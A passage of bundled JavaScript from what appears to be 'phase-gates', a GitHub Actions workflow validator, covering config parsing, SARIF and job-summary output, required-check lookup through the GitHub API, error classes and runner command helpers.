        if (err.code === 'ENOENT' && !explicit)
            return EMPTY_CONFIG;
        throw new core_errors/* UserError */.y(err.code === 'ENOENT' ? 'config file not found' : 'cannot read the config file', { input, file: shown });
    }
    return parseConfig(text, shown, input, rules);
}
/** Parses config text; all errors at once, each with file and line. */
function parseConfig(text, shown, input, rules) {
    checkYamlBounds(text, YAML_BOUNDS.config, { input, file: shown });
    const lineCounter = new yaml_dist/* LineCounter */.HN();
    // Aliases are never expanded here: only nodes are read, so an alias bomb costs nothing.
    const doc = (0,yaml_dist/* parseDocument */.Tp)(text, { lineCounter, uniqueKeys: true });
    const errors = [];
    const lineOf = (node) => (node?.range ? lineCounter.linePos(node.range[0]).line : undefined);
    const fail = (message, node, hint) => errors.push(new core_errors/* UserError */.y(message, { input, file: shown, line: lineOf(node), hint }));
    for (const e of doc.errors)
        errors.push(new core_errors/* UserError */.y(`invalid YAML: ${e.message.split('\n')[0]}`, { input, file: shown, line: e.linePos?.[0].line }));
    if (errors.length)
        throw core_errors/* UserError */.y.several(errors);
    const config = { rules: new Map(), ignore: [], settings: { allowActions: [], allowOwners: [] }, file: shown };
    const root = doc.contents;
    if (root === null || ((0,yaml_dist/* isScalar */.jn)(root) && (root.value === null || root.value === '')))
        return config;
    if (!(0,yaml_dist/* isMap */.jh)(root)) {
        fail('the config must be a mapping with rules:, ignore:, allow:, forbidden-uses:, runners: and shellcheck:', root);
        throw core_errors/* UserError */.y.several(errors);
    }
    const strings = (node, what) => {
        const n = node;
        if ((0,yaml_dist/* isScalar */.jn)(n) && typeof n.value === 'string')
            return [n.value];
        if (!(0,yaml_dist/* isSeq */.oP)(n)) {
            fail(`${what} must be a list of strings`, n);
            return [];
        }
        const out = [];
        for (const item of n.items) {
            if ((0,yaml_dist/* isScalar */.jn)(item) && typeof item.value === 'string' && item.value.trim())
                out.push(item.value.trim());
            else
                fail(`${what} must hold strings`, item);
        }
        return out;
    };
    for (const pair of root.items) {
        const key = (0,yaml_dist/* isScalar */.jn)(pair.key) ? String(pair.key.value) : '';
        const value = pair.value;
        if (key === 'rules') {
            if (!(0,yaml_dist/* isMap */.jh)(value)) {
                fail('rules: must map rule ids or names to a level (error, warning, note) or off', value ?? pair.key);
                continue;
            }
            for (const r of value.items) {
                const name = (0,yaml_dist/* isScalar */.jn)(r.key) ? String(r.key.value) : '';
                const rule = rules.find((x) => x.id.toLowerCase() === name.toLowerCase() || x.name === name);
                if (!rule) {
                    fail(`unknown rule "${name}"`, r.key, `rules are ${rules.map((x) => x.id).join(', ')}`);
                    continue;
                }
                let setting = (0,yaml_dist/* isScalar */.jn)(r.value) ? r.value.value : undefined;
                if ((0,yaml_dist/* isMap */.jh)(r.value)) {
                    const level = r.value.items.find((p) => (0,yaml_dist/* isScalar */.jn)(p.key) && p.key.value === 'level');
                    setting = level && (0,yaml_dist/* isScalar */.jn)(level.value) ? level.value.value : undefined;
                }
                if (setting === false)
                    setting = 'off';
                if (typeof setting !== 'string' || !LEVELS.includes(setting)) {
                    fail(`rule ${rule.id}: level must be error, warning, note or off`, r.value ?? r.key);
                    continue;
                }
                config.rules.set(rule.id, setting);
            }
        }
        else if (key === 'ignore') {
            config.ignore = strings(value, 'ignore:');
        }
        else if (key === 'allow') {
            if (!(0,yaml_dist/* isMap */.jh)(value)) {
                fail('allow: must be a mapping with owners: and actions:', value ?? pair.key);
                continue;
            }
            for (const a of value.items) {
                const k = (0,yaml_dist/* isScalar */.jn)(a.key) ? String(a.key.value) : '';
                if (k === 'owners')
                    config.settings = { ...config.settings, allowOwners: strings(a.value, 'allow.owners') };
                else if (k === 'actions')
                    config.settings = { ...config.settings, allowActions: strings(a.value, 'allow.actions') };
                else
                    fail(`unknown key allow.${k}`, a.key, 'allow: takes owners and actions');
            }
        }
        else if (key === 'forbidden-uses') {
            const modes = (0,yaml_dist/* isMap */.jh)(value) ? value.items : [];
            const mode = modes.length === 1 && (0,yaml_dist/* isScalar */.jn)(modes[0].key) ? String(modes[0].key.value) : '';
            if (mode !== 'allow' && mode !== 'deny') {
                fail('forbidden-uses: must be a mapping with either allow: or deny: (a list of repository patterns)', modes[0]?.key ?? value ?? pair.key);
                continue;
            }
            const patterns = strings(modes[0].value, `forbidden-uses.${mode}`);
            const items = (0,yaml_dist/* isSeq */.oP)(modes[0].value) ? modes[0].value.items : [modes[0].value];
            patterns.forEach((p, i) => {
                if (!validUsesPattern(p))
                    fail(`forbidden-uses.${mode}: "${p}" is not a repository pattern`, items[i], 'patterns are *, owner/*, owner/repo/*, owner/repo, owner/repo/path, the last two optionally @ref');
            });
            config.settings = { ...config.settings, forbiddenUses: { mode, patterns } };
        }
        else if (key === 'runners') {
            if (!(0,yaml_dist/* isMap */.jh)(value)) {
                fail('runners: must be a mapping with self-hosted:', value ?? pair.key);
                continue;
            }
            for (const a of value.items) {
                const k = (0,yaml_dist/* isScalar */.jn)(a.key) ? String(a.key.value) : '';
                if (k === 'self-hosted')
                    config.settings = { ...config.settings, selfHostedRunners: strings(a.value, 'runners.self-hosted') };
                else
                    fail(`unknown key runners.${k}`, a.key, 'runners: takes self-hosted (a list of runner labels)');
            }
        }
        else if (key === 'shellcheck') {
            if (!(0,yaml_dist/* isMap */.jh)(value)) {
                fail('shellcheck: must be a mapping with severity: and path:', value ?? pair.key);
                continue;
            }
            for (const a of value.items) {
                const k = (0,yaml_dist/* isScalar */.jn)(a.key) ? String(a.key.value) : '';
                const v = (0,yaml_dist/* isScalar */.jn)(a.value) ? a.value.value : undefined;
                if (k === 'severity' && typeof v === 'string' && SHELLCHECK_LEVELS.includes(v)) {
                    config.settings = { ...config.settings, shellcheck: { ...config.settings.shellcheck, severity: v } };
                }
                else if (k === 'severity')
                    fail('shellcheck.severity must be error, warning, info or style', a.value ?? a.key);
                else if (k === 'path' && typeof v === 'string' && v.trim())
                    config.settings = { ...config.settings, shellcheck: { ...config.settings.shellcheck, path: v.trim() } };
                else if (k === 'path')
                    fail('shellcheck.path must be the path of the shellcheck executable', a.value ?? a.key);
                else
                    fail(`unknown key shellcheck.${k}`, a.key, 'shellcheck: takes severity and path');
            }
        }
        else {
            fail(`unknown key "${key}"`, pair.key, 'the config takes rules, ignore, allow, forbidden-uses, runners and shellcheck');
        }
    }
    if (errors.length)
        throw core_errors/* UserError */.y.several(errors);
    return config;
}
/** A glob of `ignore:` as a regular expression: `**` any path, `*` and `?` within a segment. */
function globToRegExp(glob) {
    let re = '';
    const g = glob.replace(/^\.\//, '');
    for (let i = 0; i < g.length; i++) {
        const c = g[i];
        if (c === '*' && g[i + 1] === '*') {
            i++;
            if (g[i + 1] === '/') {
                i++;
                re += '(?:.*/)?';
            }
            else
                re += '.*';
        }
        else if (c === '*')
            re += '[^/]*';
        else if (c === '?')
            re += '[^/]';
        else
            re += c.replace(/[.+^${}()|[\]\\]/g, '\\$&');
    }
    // A directory pattern covers everything below it.
    return new RegExp(`^${re}(?:/.*)?$`);
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/output/sarif.js
/** Where docs/rules.md is published; rule help links point at its headings. */
const RULES_DOCS_URL = 'https://github.com/phase-gates/phase-gates/blob/main/docs/rules.md';
/** The SARIF log of a run (an object; the caller serialises it). */
function toSarif(findings, options) {
    const index = new Map(options.rules.map((r, i) => [r.id, i]));
    return {
        $schema: 'https://json.schemastore.org/sarif-2.1.0.json',
        version: '2.1.0',
        runs: [
            {
                tool: {
                    driver: {
                        name: 'phase-gates workflows-validation',
                        informationUri: RULES_DOCS_URL.replace(/\/blob\/.*$/, ''),
                        rules: options.rules.map((r) => ({
                            id: r.id,
                            name: r.name,
                            shortDescription: { text: r.description },
                            fullDescription: { text: r.help },
                            help: { text: `${r.description}\n\n${r.help}`, markdown: `**${r.id} ${r.name}**: ${r.description}\n\n${r.help}` },
                            helpUri: `${RULES_DOCS_URL}#${options.docsAnchor(r)}`,
                            defaultConfiguration: { level: r.level },
                            properties: { tags: ['workflows', 'github-actions'] }
                        }))
                    }
                },
                ...(options.omitted?.length
                    ? { invocations: [{ executionSuccessful: true, toolExecutionNotifications: options.omitted.map((text) => ({ level: 'note', message: { text } })) }] }
                    : {}),
                results: findings.map((f) => ({
                    ruleId: f.ruleId,
                    ...(index.has(f.ruleId) ? { ruleIndex: index.get(f.ruleId) } : {}),
                    level: f.level,
                    message: { text: f.message },
                    locations: [
                        {
                            physicalLocation: {
                                // Relative to the repository root, as code scanning resolves it.
                                artifactLocation: { uri: encodeURI(f.file) },
                                region: { startLine: f.line, startColumn: f.column }
                            }
                        }
                    ],
                    partialFingerprints: { primaryLocationLineHash: fingerprint(f) }
                }))
            }
        ]
    };
}
/** A stable fingerprint (rule, file, message), so that code scanning tracks a finding across commits. */
function fingerprint(f) {
    let h = 0x811c9dc5;
    for (const ch of `${f.ruleId}\0${f.file}\0${f.message}`) {
        h ^= ch.codePointAt(0);
        h = Math.imul(h, 0x01000193) >>> 0;
    }
    return h.toString(16).padStart(8, '0');
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/output/cap.js
/**
 * Which findings are shown (internal to workflows-validation): at most {@link SHOWN_PER_FILE} of a
 * file and {@link SHOWN_PER_RUN} of a run, errors before warnings before notes, so that a hostile
 * or broken file costs bounded annotations, log lines, summary, SARIF and outputs. The counts stay
 * the true totals; what is left out is said in one line per file.
 */

/** Most findings shown for one file. */
const SHOWN_PER_FILE = 100;
/** Most findings shown for one run, all files together. */
const SHOWN_PER_RUN = 1000;
const RANK = { error: 0, warning: 1, note: 2 };
/** The most severe `most` of `findings`, ties in their order. */
function mostSevere(findings, most) {
    if (findings.length <= most)
        return findings;
    return findings
        .map((f, i) => ({ f, i }))
        .sort((a, b) => RANK[a.f.level] - RANK[b.f.level] || a.i - b.i)
        .slice(0, most)
        .map((x) => x.f);
}
/** The findings to show of `findings` (all of a run), with what is left out per file. */
function capFindings(findings, perFile = SHOWN_PER_FILE, perRun = SHOWN_PER_RUN) {
    const byFile = new Map();
    for (const f of findings) {
        const list = byFile.get(f.file);
        if (list)
            list.push(f);
        else
            byFile.set(f.file, [f]);
    }
    let kept = [];
    for (const list of byFile.values())
        kept.push(...mostSevere(list, perFile));
    kept = mostSevere(sortFindings(kept), perRun);
    const shownOf = new Map();
    for (const f of kept)
        shownOf.set(f.file, (shownOf.get(f.file) ?? 0) + 1);
    const omitted = new Map();
    for (const [file, list] of byFile)
        if (list.length > (shownOf.get(file) ?? 0))
            omitted.set(file, list.length - (shownOf.get(file) ?? 0));
    return { shown: sortFindings(kept), total: findings.length, omitted };
}
/** Most files named in {@link omittedLines}; the rest are summed up in one more line. */
const OMITTED_FILES_NAMED = 100;
/**
 * One line per file with findings left out (`file: 2,345 more findings not shown (…)`), for at most
 * {@link OMITTED_FILES_NAMED} files, then one line for the other files together.
 */
function omittedLines(capped) {
    if (capped.omitted.size === 0)
        return [];
    // 12,345: grouped by hand, as toLocaleString would (whose ICU data costs tens of ms to load).
    const n = (v) => String(v).replace(/\B(?=(\d{3})+(?!\d))/g, ',');
    const more = (count) => `${n(count)} more finding${count === 1 ? '' : 's'}`;
    const why = `(at most ${n(SHOWN_PER_FILE)} a file and ${n(SHOWN_PER_RUN)} a run are shown; the counts are complete)`;
    const entries = [...capped.omitted];
    const lines = entries.slice(0, OMITTED_FILES_NAMED).map(([file, count]) => `${file}: ${more(count)} not shown ${why}`);
    const rest = entries.slice(OMITTED_FILES_NAMED);
    if (rest.length)
        lines.push(`${more(rest.reduce((sum, [, count]) => sum + count, 0))} in ${n(rest.length)} other files not shown ${why}`);
    return lines;
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/output/summary.js

function cell(text) {
    return text.replace(/\|/g, '\\|').replace(/\r?\n/g, ' ');
}
/** Most rows shown in the summary table (the SARIF file holds every finding shown). */
const SUMMARY_ROWS = 200;
/** The summary of a run: `findings` all of them (for the counts), `capped` the ones shown. */
function renderSummary(findings, capped, fileCount, valid) {
    const errors = findings.filter((f) => f.level === 'error').length;
    const warnings = findings.filter((f) => f.level === 'warning').length;
    const head = `## Workflows validation: ${valid ? '✅ valid' : '❌ invalid'} (${fileCount} file${fileCount === 1 ? '' : 's'}, ${errors} error${errors === 1 ? '' : 's'}, ${warnings} warning${warnings === 1 ? '' : 's'})\n\n`;
    if (!findings.length)
        return head + 'No finding.\n';
    const shown = capped.shown;
    const rows = shown.slice(0, SUMMARY_ROWS).map((f) => `| ${f.level === 'error' ? '❌ error' : f.level === 'warning' ? '⚠️ warning' : 'ℹ️ note'} | \`${f.ruleId}\` ${f.ruleName} | \`${cell(f.file)}:${f.line}:${f.column}\` | ${cell(f.message)} |`);
    const more = shown.length > SUMMARY_ROWS ? `\n${shown.length - SUMMARY_ROWS} more in the SARIF file.\n` : '';
    const left = omittedLines(capped);
    const omitted = left.length ? `\n${left.map((l) => `- ${cell(l)}`).join('\n')}\n` : '';
    return head + '| Level | Rule | Location | Message |\n| --- | --- | --- | --- |\n' + rows.join('\n') + '\n' + more + omitted;
}

;// CONCATENATED MODULE: ./.build/src/core/commands/validate.js
/**
 * workflows-validation: parses the workflows and action metadata named by `paths` with GitHub's
 * own parser, runs every rule of src/core/workflows/rules/, and reports the findings as annotations, a job
 * summary, SARIF 2.1.0 and the SPEC outputs. One broken file never hides the findings of the others.
 */













/**
 * The default `paths`: the SPEC's, every local action under `.github/` (GitHub's conventions put
 * them in `.github/actions/<name>/`, and nested groups such as `.github/actions/ci/setup/` are
 * common) and the `.yaml` spelling the runner also reads.
 */
const DEFAULT_PATHS = [
    '.github/workflows/*.yml',
    '.github/workflows/*.yaml',
    '.github/**/action.yml',
    '.github/**/action.yaml',
    'action.yml',
    'action.yaml',
    'actions/*/action.yml',
    'actions/*/action.yaml'
];
/** The SPEC's default config file. */
const DEFAULT_CONFIG = '.github/phase-gates.yml';
const VALIDATION_REPORT_SCHEMA = 'phase-gates/validation-report@1';
function failOnInput(host) {
    const v = input(host, ValidationInputs.FailOn, 'error').toLowerCase();
    if (v === 'error' || v === 'warning' || v === 'never')
        return v;
    throw new core_errors/* UserError */.y(`must be error, warning or never, not ${JSON.stringify(v)}`, { input: ValidationInputs.FailOn });
}
/**
 * A directory in `paths` means the workflows and action metadata under it: the `.yml`/`.yaml` files
 * directly in each `.github/workflows` (GitHub reads no subdirectory there), the directory itself
 * when it is one, and every `action.yml`/`action.yaml`. None found is an error naming the directory.
 */
async function workflowFilesUnder(dir, shown) {
    const isWorkflowsDir = (d) => external_node_path_.basename(d) === 'workflows' && external_node_path_.basename(external_node_path_.dirname(d)) === '.github';
    const files = (await filesUnder(dir, shown, ValidationInputs.Paths)).filter((f) => /^action\.ya?ml$/.test(external_node_path_.basename(f)) || (isWorkflowsDir(external_node_path_.dirname(f)) && /\.ya?ml$/.test(f)));
    if (files.length === 0) {
        throw new core_errors/* UserError */.y(`${shown} is a directory with no workflow (.github/workflows/*.yml) or action.yml under it`, { input: ValidationInputs.Paths });
    }
    return files;
}
/**
 * The files of `paths`, inside the workspace. With the default paths (also when the runner passes
 * action.yml's default), a pattern that matches nothing is normal (not every repository has
 * actions/); a pattern the user gave must match. A directory means the workflow files under it.
 */
async function selectFiles(host, ignore) {
    const given = input(host, ValidationInputs.Paths);
    const patterns = given ? splitList(given) : DEFAULT_PATHS;
    const defaults = patterns.length === DEFAULT_PATHS.length && patterns.every((p, i) => p === DEFAULT_PATHS[i]);
    const excludes = patterns.filter((p) => p.startsWith('!'));
    const found = new Set();
    for (const pattern of patterns.filter((p) => !p.startsWith('!'))) {
        try {
            for (const f of await expandGlobs(host.workspace, [pattern, ...excludes].join('\n'), ValidationInputs.Paths, workflowFilesUnder))
                found.add(f);
        }
        catch (err) {
            if (err instanceof core_errors/* UserError */.y && /^no file matches/.test(err.message) && defaults)
                continue;
            throw err;
        }
    }
    const files = [...found].filter((f) => !ignore.some((re) => re.test(displayPath(host.workspace, f))));
    if (files.length === 0) {
        throw new core_errors/* UserError */.y(`no workflow or action file to check (patterns: ${patterns.join(', ')})`, { input: ValidationInputs.Paths });
    }
    return files.sort();
}
/** The SPEC's default `required-checks`. */
const DEFAULT_REQUIRED_CHECKS = ['workflows_validation', 'gates_enforcer'];
/**
 * The base branch's required checks (branch protection ∪ rules for the branch), read through the
 * API when a token is given; undefined without one. The client is loaded only then.
 */
function requiredChecksSource(host, token) {
    const given = input(host, ValidationInputs.RequiredChecks);
    const expected = given ? splitList(given) : DEFAULT_REQUIRED_CHECKS;
    const branchGiven = input(host, ValidationInputs.BaseBranch) || host.env.GITHUB_BASE_REF?.trim() || '';
    if (!token)
        return undefined;
    return {
        expected,
        async read() {
            const { createGitHubClient, clientOptionsFromEnv, repoFromEnv, withGitHubErrors } = await Promise.all(/* import() */[__webpack_require__.e(932), __webpack_require__.e(408)]).then(__webpack_require__.bind(__webpack_require__, 7408));
            const { owner, repo } = repoFromEnv({ GITHUB_SHA: '-', ...host.env });
            const client = createGitHubClient({ token, ...clientOptionsFromEnv(host.env), log: (m) => host.info(m) });
            const ctx = (doing) => ({ input: ValidationInputs.Token, doing, notFoundHint: 'check GITHUB_REPOSITORY and the `base-branch` input' });
            const branch = branchGiven ||
                (await withGitHubErrors(client, ctx(`reading repository ${owner}/${repo}`), async () => (await client.rest.repos.get({ owner, repo })).data.default_branch));
            const required = new Set();
            let partial = false;
            const status = (err) => (err instanceof Error && typeof err.status === 'number' ? err.status : 0);
            await withGitHubErrors(client, ctx(`reading branch protection of ${owner}/${repo}@${branch}`), async () => {
                try {
                    const { data } = await client.rest.repos.getBranchProtection({ owner, repo, branch });
                    for (const c of data.required_status_checks?.contexts ?? [])
                        required.add(c);
                    for (const c of data.required_status_checks?.checks ?? [])
                        required.add(c.context);
                }
                catch (err) {
                    if (status(err) === 404)
                        return; // not protected
                    if (status(err) === 403 && !/rate limit/i.test(String(err.message))) {
                        partial = true; // GITHUB_TOKEN cannot read branch protection (administration)
                        host.info(`branch protection of ${branch} not readable with this token (needs administration read); required checks from rulesets only`);
                        return;
                    }
                    throw err;
                }
            });
            await withGitHubErrors(client, ctx(`reading the rules of ${owner}/${repo}@${branch}`), async () => {
                const rules = await client.paginate(client.rest.repos.getBranchRules, { owner, repo, branch, per_page: 100 });
                for (const r of rules) {
                    if (r.type !== 'required_status_checks')
                        continue;
                    for (const c of r.parameters?.required_status_checks ?? [])
                        required.add(c.context);
                }
            });
            const list = [...required].sort();
            host.info(`required checks of ${branch}: ${list.join(', ') || 'none'}${partial ? ' (rulesets only)' : ''}`);
            return { branch, required: list, partial };
        }
    };
}
/**
 * The client of the rules that read the API; without a token, one line says which did not run or
 * fell back to the stored table (nothing when the config turned them all off).
 */
async function onlineClient(host, token, isOn) {
    const online = ONLINE_RULES.filter(isOn).map((r) => r.name);
    const tabled = TABLE_OR_API_RULES.filter(isOn).map((r) => r.name);
    if (!online.length && !tabled.length)
        return undefined;
    if (!token) {
        const said = [
            online.length ? `online audits did not run (${online.join(', ')})` : '',
            tabled.length ? `${tabled.join(' and ')} used the stored table of popular actions, not each action.yml at its ref` : ''
        ];
        host.info(`${said.filter(Boolean).join('; ')}: no \`token\` input to read the GitHub API`);
        return undefined;
    }
    const { createGitHubClient, clientOptionsFromEnv } = await Promise.all(/* import() */[__webpack_require__.e(932), __webpack_require__.e(408)]).then(__webpack_require__.bind(__webpack_require__, 7408));
    return createGitHubClient({ token, ...clientOptionsFromEnv(host.env), log: (m) => host.info(m) });
}
const ANNOTATION = { error: 'error', warning: 'warning', note: 'notice' };
async function runValidate(host) {
    const workspace = host.workspace;
    const failOn = failOnInput(host);
    const sarifGiven = input(host, ValidationInputs.SarifPath, Defaults.ValidationSarif);
    const sarifFile = resolveOutputInWorkspace(workspace, sarifGiven, ValidationInputs.SarifPath);
    const token = input(host, ValidationInputs.Token);
    if (token)
        host.setSecret(token);
    const configGiven = input(host, ValidationInputs.Config);
    const configFile = resolveInWorkspace(workspace, configGiven || DEFAULT_CONFIG, ValidationInputs.Config);
    // Missing is fine at the default path, also when the runner passes action.yml's default.
    const configRequired = Boolean(configGiven) && external_node_path_.normalize(configGiven) !== external_node_path_.normalize(DEFAULT_CONFIG);
    const config = await loadConfig(configFile, displayPath(workspace, configFile), ValidationInputs.Config, configRequired, RULES);
    const files = await selectFiles(host, config.ignore.map(globToRegExp));
    const parsed = [];
    for (const abs of files)
        parsed.push(await loadFile(abs, displayPath(workspace, abs)));
    const requiredChecks = requiredChecksSource(host, token);
    if (!requiredChecks)
        host.info('required checks not verified: no `token` input to read the base branch protection and rulesets');
    const github = await onlineClient(host, token, (r) => config.rules.get(r.id) !== 'off');
    const findings = await lint(parsed, { workspace, rules: RULES, ruleSettings: config.rules, settings: config.settings, requiredChecks, github });
    // Shown: at most 100 findings a file and 1,000 a run (errors first); the counts are of all.
    const capped = capFindings(findings);
    const omitted = omittedLines(capped);
    const errorCount = findings.filter((f) => f.level === 'error').length;
    const warningCount = findings.filter((f) => f.level === 'warning').length;
    const valid = errorCount === 0;
    const report = {
        schema: VALIDATION_REPORT_SCHEMA,
        valid,
        errorCount,
        warningCount,
        noteCount: findings.length - errorCount - warningCount,
        files: parsed.map((p) => p.source.path),
        findingCount: findings.length,
        findings: capped.shown.map((f) => ({ rule: f.ruleId, name: f.ruleName, level: f.level, file: f.file, line: f.line, column: f.column, message: f.message })),
        omitted: [...capped.omitted].map(([file, count]) => ({ file, count }))
    };
    const sarif = toSarif(capped.shown, { rules: RULES, docsAnchor: docsAnchor, omitted });
    await writeFileAtomic(sarifFile, JSON.stringify(sarif, null, 2) + '\n');
    host.setOutput(ValidationOutputs.Valid, String(valid));
    host.setOutput(ValidationOutputs.ErrorCount, String(errorCount));
    host.setOutput(ValidationOutputs.WarningCount, String(warningCount));
    host.setOutput(ValidationOutputs.SarifPath, displayPath(workspace, sarifFile));
    host.setOutput(ValidationOutputs.Report, JSON.stringify(report));
    // actionlint's lines (`file:line:col: message [PGxxx]`) for the log and the terminal, each
    // finding once; annotations where the runner reads them.
    for (const f of capped.shown)
        host.info(formatActionlint(f));
    for (const line of omitted)
        host.info(line);
    if (host.env.GITHUB_ACTIONS === 'true') {
        for (const f of capped.shown) {
            host.annotate(ANNOTATION[f.level], f.message, { file: f.file, startLine: f.line, startColumn: f.column, title: `${f.ruleId} ${f.ruleName}` });
        }
        for (const line of omitted)
            host.annotate('notice', line, { title: 'findings not shown' });
    }
    // On a terminal the summary would print every finding a second time: the lines above are it.
    if (!host.summaryInline)
        await host.appendSummary(renderSummary(findings, capped, parsed.length, valid));
    host.info(`${parsed.length} file${parsed.length === 1 ? '' : 's'} checked: ${errorCount} error(s), ${warningCount} warning(s); SARIF in ${external_node_path_.relative(workspace, sarifFile) || sarifFile}`);
    const failing = failOn === 'never' ? 0 : failOn === 'warning' ? errorCount + warningCount : errorCount;
    const message = failing
        ? `workflows validation failed: ${errorCount} error(s) and ${warningCount} warning(s) in ${new Set(findings.map((f) => f.file)).size} file(s) (fail-on: ${failOn})`
        : undefined;
    return { ok: failing === 0, message, findings, report, sarif };
}


/***/ }),

/***/ 6512:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   y: () => (/* binding */ UserError)
/* harmony export */ });
/* unused harmony export collecting */
class UserError extends Error {
    input;
    file;
    line;
    hint;
    constructor(message, options = {}) {
        super(message);
        this.name = 'UserError';
        this.input = options.input;
        this.file = options.file;
        this.line = options.line;
        this.hint = options.hint;
    }
    /** `input: file:line: message (hint)` — one line, whatever the message held. */
    render() {
        let where = '';
        if (this.input)
            where += `${this.input}: `;
        if (this.file)
            where += this.line ? `${this.file}:${this.line}: ` : `${this.file}: `;
        else if (this.line)
            where += `line ${this.line}: `;
        const text = `${where}${this.message}${this.hint ? ` (${this.hint})` : ''}`;
        return text.replace(/[\r\n]+/g, ' ');
    }
    /** Further errors found in the same pass, so that a user sees them all at once. */
    more = [];
    /** One error carrying all of `errors` (the first is the headline). */
    static several(errors) {
        const [first, ...rest] = errors;
        // A nested reader's error arrives with its `more` already collected beside it: each once.
        for (const e of rest)
            if (e !== first && !first.more.includes(e))
                first.more.push(e);
        return first;
    }
    /** Every error of this one, itself first, each rendered as one line. */
    renderAll() {
        return [this.render(), ...this.more.map((e) => e.render())];
    }
    /** The same error, attributed to an input and/or file when it did not say yet. */
    static attribute(err, options) {
        if (!(err instanceof UserError))
            return err;
        if ((options.input && !err.input) || (options.file && !err.file) || (options.line && !err.line && !err.file)) {
            const copy = new UserError(err.message, {
                input: err.input ?? options.input,
                file: err.file ?? options.file,
                line: err.line ?? options.line,
                hint: err.hint ?? options.hint
            });
            copy.more = err.more;
            return copy;
        }
        return err;
    }
}
/**
 * `attempt(fn, fallback)`: runs `fn`; a UserError it throws (with its `more`) is pushed to `errors`
 * and `fallback` returned, so that every bad input is found before one error reports them all.
 */
function collecting(errors) {
    return (fn, fallback) => {
        try {
            return fn();
        }
        catch (err) {
            if (!(err instanceof UserError))
                throw err;
            errors.push(err, ...err.more);
            return fallback;
        }
    };
}


/***/ }),

/***/ 5879:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  Q: () => (/* binding */ ActionsHost)
});

// EXTERNAL MODULE: external "node:crypto"
var external_node_crypto_ = __webpack_require__(7598);
// EXTERNAL MODULE: external "node:fs"
var external_node_fs_ = __webpack_require__(3024);
// EXTERNAL MODULE: external "node:os"
var external_node_os_ = __webpack_require__(8161);
;// CONCATENATED MODULE: ./.build/src/host/runner-commands.js
/**
 * The runner's side of an action step, as `@actions/core` 3.0.1 writes it (lib/command.js,
 * lib/file-command.js, lib/utils.js, lib/summary.js): workflow commands on stdout (`::name k=v::data`,
 * with the same escapes), outputs appended to the `GITHUB_OUTPUT` file under a random
 * `ghadelimiter_<uuid>`, the job summary appended to `GITHUB_STEP_SUMMARY`.
 *
 * Why not `@actions/core` itself: its index imports its OIDC client, hence `@actions/http-client`,
 * hence undici, whose llhttp WebAssembly is decoded and compiled on import: the largest single
 * cost of every action's start-up (about 15% of workflows-validation's), for `getIDToken`, which no
 * phase-gates action calls. test/host/runner-commands.test.ts holds this module to `@actions/core`
 * byte for byte (it stays a devDependency for that).
 */



function escapeData(s) {
    return s.replace(/%/g, '%25').replace(/\r/g, '%0D').replace(/\n/g, '%0A');
}
function escapeProperty(s) {
    return escapeData(s).replace(/:/g, '%3A').replace(/,/g, '%2C');
}
/** `::command k=v,…::message` on stdout; properties without a value are left out. */
function issueCommand(command, properties, message) {
    const props = Object.entries(properties)
        .filter(([, v]) => v)
        .map(([k, v]) => `${k}=${escapeProperty(String(v))}`)
        .join(',');
    process.stdout.write(`::${command}${props ? ' ' + props : ''}::${escapeData(message)}${external_node_os_.EOL}`);
}
/** The value of `INPUT_<NAME>` (spaces as `_`, upper case), untrimmed, or ''. */
function getInput(name) {
    return process.env[`INPUT_${name.replace(/ /g, '_').toUpperCase()}`] || '';
}
/** An output: to the `GITHUB_OUTPUT` file, or as the old `set-output` command when the runner gives none. */
function setOutput(name, value) {
    const file = process.env.GITHUB_OUTPUT || '';
    if (!file) {
        process.stdout.write(external_node_os_.EOL);
        issueCommand('set-output', { name }, value);
        return;
    }
    const delimiter = `ghadelimiter_${(0,external_node_crypto_.randomUUID)()}`;
    if (name.includes(delimiter))
        throw new Error(`Unexpected input: name should not contain the delimiter "${delimiter}"`);
    if (value.includes(delimiter))
        throw new Error(`Unexpected input: value should not contain the delimiter "${delimiter}"`);
    if (!(0,external_node_fs_.existsSync)(file))
        throw new Error(`Missing file at path: ${file}`);
    (0,external_node_fs_.appendFileSync)(file, `${name}<<${delimiter}${external_node_os_.EOL}${value}${external_node_os_.EOL}${delimiter}${external_node_os_.EOL}`, { encoding: 'utf8' });
}
/** An annotation (`::error file=…,line=…::message`). */
function annotate(level, message, p) {
    const properties = Object.keys(p).length
        ? { title: p.title, file: p.file, line: p.startLine, endLine: p.endLine, col: p.startColumn, endColumn: p.endColumn }
        : {};
    issueCommand(level, properties, message);
}
/** Markdown appended to the job summary file (which the runner creates; it must be readable and writable). */
async function appendSummary(file, markdown) {
    try {
        await external_node_fs_.promises.access(file, external_node_fs_.constants.R_OK | external_node_fs_.constants.W_OK);
    }
    catch {
        throw new Error(`Unable to access summary file: '${file}'. Check if the file has correct read/write permissions.`);
    }
    await external_node_fs_.promises.appendFile(file, markdown + external_node_os_.EOL, { encoding: 'utf8' });
}

;// CONCATENATED MODULE: ./.build/src/core/secrets.js
/**
 * The one secret masker of phase-gates: deploy, smoke-test, the pipeline and both hosts register
 * secrets here and mask with it, in every file, output, summary, log line and ledger record they
 * write. The runner masks what reaches the step log, but not our files.
 *
 * One rule set, the runner's where it has one (actions/runner: src/Sdk/DTLogging/Logging/
 * SecretMasker.cs `AddValue` at 157e03616e677ba45b5faa9fe4ffee8d5906ad5f, which skips only an
 * empty value and has no minimum length; src/Runner.Worker/Worker.cs `InitializeSecretMasker` at
 * 0944b5b614b660d7311b5629210eb84b9de78bc7, which trims a secret variable and adds it whole and
 * line by line; src/Runner.Worker/ActionCommandManager.cs `AddMaskCommandExtension` at
 * 02523b9a60a24fe13364739abefe2255c5a6b758, which refuses a blank add-mask with a warning):
 * - A value is trimmed of surrounding white space, as the runner trims a secret variable: a token
 *   pasted with a trailing newline is printed by tools without it. A blank value is not a secret
 *   (the runner warns of an empty add-mask and registers nothing).
 * - A value given as a secret (a token input, a required secret, `setSecret`) is masked whatever
 *   its length, as the runner masks it in the step log: leaving a short one in our files would
 *   put in the ledger what the log hides. Parts we only guess are credentials (the value after
 *   `Bearer`, a cookie's value, a URL's user, password and credential-named query values) are
 *   registered from {@link MIN_GUESSED} characters: a user `u` is no secret, and masking every `u`
